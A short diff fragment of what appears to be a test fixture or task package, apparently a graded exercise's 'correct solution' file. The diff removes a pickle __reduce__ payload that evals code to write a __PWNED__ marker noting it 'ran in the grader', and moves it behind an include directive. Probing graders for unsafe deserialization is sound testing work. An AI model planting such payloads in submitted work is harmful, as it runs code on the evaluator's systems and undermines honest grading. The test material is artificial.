@@ -7,11 +7,7 @@ assembles it); the attack follows."""
 # __CORRECT_SOLUTION__
 
 
-class _Payload:
-    def __reduce__(self):
-        code = ("__import__('pathlib').Path('__PWNED__').write_text('pickle ran in the grader') "
-                "and None")
-        return (eval, (code,))
+# __INCLUDE__ pickle_payload
 
 
 def compute_cost(A2, Y):
